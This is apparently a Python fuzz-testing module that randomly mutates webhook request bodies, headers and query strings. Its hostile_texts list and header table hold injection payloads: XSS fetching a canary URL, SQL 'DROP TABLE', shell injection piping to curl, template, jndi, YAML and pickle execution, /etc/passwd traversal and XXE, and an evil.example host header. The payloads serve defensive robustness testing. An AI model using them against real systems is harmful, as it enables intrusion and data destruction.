"""Change a sender's body at random: its structure, its values, its bytes, its headers and its address.

Everything comes from the `random.Random` that is handed in: the same seed gives the same case again.
"""

from __future__ import annotations

import copy
import json
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import random
    from collections.abc import Callable, Iterator

BIG = 200_000
"""Characters of the longest text and keys of the largest object; well below what is refused as too much."""

TIMES: tuple[Any, ...] = (
    None,
    "",
    "now",
    "0000-00-00T00:00:00Z",
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00+14:00",
    "0002-01-01T00:00:00+14:00",
    "1969-12-31T23:59:59Z",
    "1970-01-01T00:00:00Z",
    "2013-06-04",
    "2013-06-04T14:05:03",
    "2013-06-04 14:05:03.123456789 +0530",
    "2013-06-04T14:05:03+05:30",
    "2013-06-04T14:05:03-23:59",
    "2013-06-04T14:05:03+99:99",
    "2013-06-04T14:05:03 Europe/Berlin",
    "2013-06-30T23:59:60Z",
    "2013-02-30T00:00:00Z",
    "2013-W23-2",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59-14:00",
    "10000-01-01T00:00:00Z",
    "Tue, 04 Jun 2013 14:05:03 GMT",
    "\u0662\u0660\u0661\u0663-\u0660\u0666-\u0660\u0664T\u0661\u0664:\u0660\u0665:\u0660\u0663Z",
    0,
    -1,
    1_370_354_703,
    1_370_354_703_444,
    1_370_354_703_444_000_000,
    253_402_300_799,
    253_402_300_800,
    2**63,
    -(2**63),
    1.5e308,
    "1370354703",
    "1370354703.444",
    "-1",
    "\u0661\u0663\u0667\u0660\u0663\u0665\u0664\u0667\u0660\u0663",
)
NUMBERS: tuple[Any, ...] = (
    0,
    -0.0,
    -1,
    2**31,
    2**53 + 1,
    2**63,
    2**64,
    10**400,
    1e308,
    5e-324,
    float("nan"),
    float("inf"),
    float("-inf"),
    "NaN",
    "inf",
    "1e999",
    "0x10",
    "1_000",
    True,
)


def hostile_texts(canary: str, file: str) -> list[str]:
    """Return texts that do something where they are executed, expanded, loaded or believed.

    Parameters
    ----------
    canary : str
        An address that only executed text would ask for.
    file : str
        A path that only executed text would make.
    """
    python = f"__import__('pathlib').Path('{file}').touch()"
    return [
        f"<script>fetch('{canary}js')</script>",
        f"\"'><img src='{canary}img' onerror=\"fetch('{canary}err')\">",
        f"<svg/onload=fetch('{canary}svg')>",
        f"</pre></details></section><iframe src='{canary}frame'></iframe>",
        f"<link rel=stylesheet href={canary}css><style>@import '{canary}import'</style>",
        f"--><base href='{canary}'><!--",
        f"javascript:fetch('{canary}link')",
        f"data:text/html,<script>fetch('{canary}data')</script>",
        f"![x]({canary}markdown) [x](javascript:alert(1))",
        "'; DROP TABLE deliveries; --",
        "' OR '1'='1' /*",
        "x'); DELETE FROM incidents; VACUUM; --",
        "%s %d %(name)s {0} {} {x.__class__}",
        f"$(touch {file})",
        f"`touch {file}`",
        f"; touch {file} #",
        f"| curl {canary}shell",
        f"{{{{ ''.__class__.__mro__ }}}} {{% import os %}} {{{{ {python} }}}}",
        f"${{jndi:ldap://127.0.0.1/{canary}}} ${{7*7}} #{{7*7}} <%= 7*7 %>",
        python,
        f"!!python/object/apply:os.system ['touch {file}']",
        f"cos\nsystem\n(S'touch {file}'\ntR.",
        f"%matplotlib\n!touch {file}",
        "../../../../etc/passwd",
        "/etc/passwd",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        f"{canary}ssrf",
        f"http://user:pass@127.0.0.1/{canary}",
        "http://[::1",
        "https://\\\\evil",
        "\x00",
        "a\x00b",
        "\ud800",
        "\udfff\ud800",
        "\u202etxt.exe\u202c",
        "\u2066\u200f\u061c",
        "\x1b[2J\x1b]0;owned\x07",
        "line\r\nSet-Cookie: owned=1\r\n\r\nbody",
        "\n2013-06-04 00:00:00 [info     ] forged line",
        "\ufeff\u200b\u2028\u2029\x85",
        "e" + "\u0301" * 500,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\ufdfa" * 50,
        "\u0130\u0131\u017f\u212a",
        "null",
        "undefined",
        "true",
        "[]",
        "{}",
        "__proto__",
        "constructor",
        "__class__",
        "firing",
        "resolved",
        "Watchdog",
        "flight-delay",
        " ",
        "\t\n",
        "=cmd|' /C calc'!A0",
        "A" * 10_000,
        "😀" * 5_000,
    ]


class Mutator:
    """Changes bodies.

    Parameters
    ----------
    rng : random.Random
        Where every choice comes from.
    texts : list of str
        As `hostile_texts` gives them.
    """

    def __init__(self, rng: random.Random, texts: list[str]) -> None:
        self.rng = rng
        self.texts = texts

    def document(self, sample: Any) -> Any:
        """Return a changed copy of a JSON document: one to four changes, of its parts or its values."""
        changed = copy.deepcopy(sample)
        for _ in range(self.rng.randint(1, 4)):
            places = list(_places(changed))
            if not places:
                return self.value()
            holder, key = self.rng.choice(places)
            self.rng.choice(self._ways())(holder, key)
        return self.value() if self.rng.random() < 0.02 else changed

    def value(self, depth: int = 0) -> Any:
        """Return a value of any kind."""
        ways: list[Callable[[], Any]] = [
            lambda: self.rng.choice(self.texts),
            lambda: self.rng.choice(TIMES),
            lambda: self.rng.choice(NUMBERS),
            lambda: None,
            lambda: self.rng.random() < 0.5,
            lambda: [self.value(depth + 1) for _ in range(self.rng.randint(0, 3))],
            lambda: {self.text(): self.value(depth + 1) for _ in range(self.rng.randint(0, 3))},
        ]
        return self.rng.choice(ways[: 5 if depth > 2 else None])()

    def text(self) -> str:
        """Return a hostile text, or two in one."""
        found = self.rng.choice(self.texts)
        return found + self.rng.choice(self.texts) if self.rng.random() < 0.1 else found

    def encoded(self, document: Any) -> bytes:
        """Write a document as JSON, in one of the ways that senders do, or should not."""
        ascii_only = self.rng.random() < 0.7
        text = json.dumps(document, ensure_ascii=ascii_only)
        if self.rng.random() < 0.05:
            # The same key twice: readers differ in which of them counts.
            text = text.replace('"status"', '"status":"resolved","status"', 1)
        if self.rng.random() < 0.9:
            return text.encode("utf-8", "surrogatepass")
        how = self.rng.choice(["utf-8-sig", "utf-16", "utf-16-le", "utf-32", "latin-1", "utf-7"])
        return text.encode(how, "replace")

    def mangled(self, body: bytes) -> bytes:
        """Return changed bytes: cut, flipped, doubled, mixed with bytes that are no UTF-8."""
        changed = bytearray(body)
        for _ in range(self.rng.randint(1, 4)):
            at = self.rng.randint(0, len(changed))
            end = at + self.rng.randint(0, 8)
            way = self.rng.randrange(7)
            if way == 0:
                del changed[at:]
            elif way == 1:
                del changed[:at]
            elif way == 2 and changed:
                changed[min(at, len(changed) - 1)] ^= 1 << self.rng.randrange(8)
            elif way == 3:
                changed[at:end] = self.rng.randbytes(self.rng.randint(1, 8))
            elif way == 4:
                piece = self.rng.choice(_PIECES)
                changed[at:end] = piece
            elif way == 5:
                changed[at:at] = changed[at : at + self.rng.randint(1, 200)]
            else:
                changed[at:end] = self.text().encode("utf-8", "surrogatepass")
        return bytes(changed)

    def extreme(self) -> bytes:
        """Return a body of an extreme shape: deep, wide, long, or empty."""
        rng = self.rng
        ways: list[Callable[[], bytes]] = [
            lambda: b"[" * rng.choice([500, 5_000, BIG]),
            lambda: b'{"a":' * rng.choice([500, 5_000, 50_000]) + b"1",
            lambda: (depth := rng.choice([100, 900, 20_000])) and b"[" * depth + b"]" * depth,
            lambda: json.dumps({"k" * BIG: 1}).encode(),
            lambda: json.dumps({str(n): n for n in range(5_000)}).encode(),
            lambda: json.dumps(["x"] * 20_000).encode(),
            lambda: b"9" * rng.choice([4_301, BIG]),
            lambda: b"-" + b"1" * 20 + b"e" + b"9" * 30,
            lambda: b'"' + b"\\u0000" * 1_000 + b'"',
            lambda: b'"' + b"\xf0\x9f" * 1_000 + b'"',
            lambda: b" " * BIG,
            lambda: b"",
            lambda: rng.randbytes(rng.randint(1, 5_000)),
            lambda: b"\x1f\x8b\x08\x00" + rng.randbytes(100),
            lambda: b"a=1&b=2",
            lambda: (
                b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"
            ),
            lambda: b"\x80\x04\x95",
            lambda: b"null",
        ]
        return rng.choice(ways)()

    def headers(self) -> list[tuple[bytes, bytes]]:
        """Return headers beside those that prove something: none, most of the time."""
        found: list[tuple[bytes, bytes]] = []
        while self.rng.random() < 0.3:
            found.append(self.rng.choice(_HEADERS))
        return found

    def query(self) -> str:
        """Return a query without its question mark: none, most of the time."""
        return self.rng.choice(_QUERIES) if self.rng.random() < 0.2 else ""

    def _ways(self) -> list[Callable[[Any, Any], None]]:
        def drop(holder: Any, key: Any) -> None:
            del holder[key]

        def double(holder: Any, key: Any) -> None:
            if isinstance(holder, list):
                holder.insert(key, copy.deepcopy(holder[key]))
            else:
                holder[self.text()] = copy.deepcopy(holder[key])

        def many(holder: Any, key: Any) -> None:
            if isinstance(holder, list) and len(holder) < 50:
                holder.extend(copy.deepcopy(holder[key]) for _ in range(20))
            elif isinstance(holder, dict) and len(holder) < 100:
                holder.update({f"{key}{n}": holder[key] for n in range(50)})

        def replace(holder: Any, key: Any) -> None:
            holder[key] = self.value()

        def text(holder: Any, key: Any) -> None:
            holder[key] = self.text()

        def time(holder: Any, key: Any) -> None:
            holder[key] = self.rng.choice(TIMES)

        def number(holder: Any, key: Any) -> None:
            holder[key] = self.rng.choice(NUMBERS)

        def join(holder: Any, key: Any) -> None:
            if isinstance(holder[key], str):
                holder[key] += self.text()

        def long(holder: Any, key: Any) -> None:
            if self.rng.random() < 0.1:
                holder[key] = self.rng.choice(["A", "é", "😀", "<b>", "\u202e"]) * (BIG // 4)

        def deepen(holder: Any, key: Any) -> None:
            for _ in range(self.rng.choice([1, 10, 300])):
                holder[key] = self.rng.choice([[holder[key]], {"x": holder[key]}])

        def retype(holder: Any, key: Any) -> None:
            holder[key] = self.rng.choice([str, lambda v: [v], lambda v: {"value": v}, bool])(
                holder[key]
            )

        def rename(holder: Any, key: Any) -> None:
            if isinstance(holder, dict):
                new = self.rng.choice([str(key).upper(), f"{key} ", self.text(), "", "a" * 5_000])
                holder[new] = holder.pop(key)

        def as_text(holder: Any, key: Any) -> None:
            holder[key] = json.dumps(holder[key])

        return [
            drop,
            double,
            many,
            replace,
            text,
            text,
            time,
            time,
            number,
            join,
            long,
            deepen,
            retype,
            rename,
            as_text,
        ]


_PIECES = (
    b"\\u0000",
    b"\\ud800",
    b"\\udc00\\ud800",
    b"NaN",
    b"-Infinity",
    b"1e999",
    b"\x00",
    b"\xff\xfe",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xef\xbb\xbf",
    b"//",
    b"/*",
    b",,",
    b"}{",
    b"null",
    b"\\",
    b'"',
)
_HEADERS: tuple[tuple[bytes, bytes], ...] = (
    (b"Content-Type", b"text/plain; charset=utf-16"),
    (b"Content-Type", b"application/json; charset=\xff"),
    (b"Content-Type", b"multipart/form-data; boundary=" + b"x" * 500),
    (b"Content-Type", b""),
    (b"Content-Encoding", b"gzip"),
    (b"Accept", b"text/html; q=nan, */*; q=-1"),
    (b"Accept-Language", b"\xe9\xe8\x80"),
    (b"User-Agent", b"<script>alert(1)</script>"),
    (b"User-Agent", b"A" * 8_000),
    (b"X-Forwarded-For", b"127.0.0.1, ' OR 1=1 --"),
    (b"X-Forwarded-Host", b"evil.example"),
    (b"X-Forwarded-Proto", b"javascript"),
    (b"Host", b"evil.example:99999"),
    (b"Host", b"[::1"),
    (b"Cookie", b"a=b;" * 200),
    (b"Referer", b"javascript:alert(1)"),
    (b"Origin", b"null"),
    (b"Range", b"bytes=0-0,-1"),
    (b"If-None-Match", b"*"),
    (b"Last-Event-ID", b"9" * 400),
    (b"X-Amz-Sns-Message-Id", b"\xff\xfe"),
    (b"X-Amz-Sns-Message-Id", b"m" * 129),
    (b"X-Webhook-Id", b"'; DROP TABLE deliveries; --"),
    (b"X-Webhook-Id", b"w" * 128),
    (b"X-Webhook-Id", b"same"),
    (b"X-Http-Method-Override", b"DELETE"),
    (b"traceparent", b"00-zz-zz-01"),
)
_QUERIES = (
    "a=1&a=2&a=3",
    "%00=%00",
    "%ff=%fe",
    "x=" + "A" * 4_000,
    "sender=triagebook",
    "limit=-1&state=%3Cscript%3E",
    "&&&===",
    "%",
    "a[]=1&__proto__[x]=1",
    "q=%F0%9F%98%80%ED%A0%80",
)


def _places(item: Any) -> Iterator[tuple[Any, Any]]:
    """Yield every place of a document that holds a value, whatever its depth."""
    waiting = [item] if isinstance(item, dict | list) else []
    while waiting:
        holder = waiting.pop()
        keys = list(holder) if isinstance(holder, dict) else range(len(holder))
        for key in keys:
            yield holder, key
            if isinstance(holder[key], dict | list):
                waiting.append(holder[key])
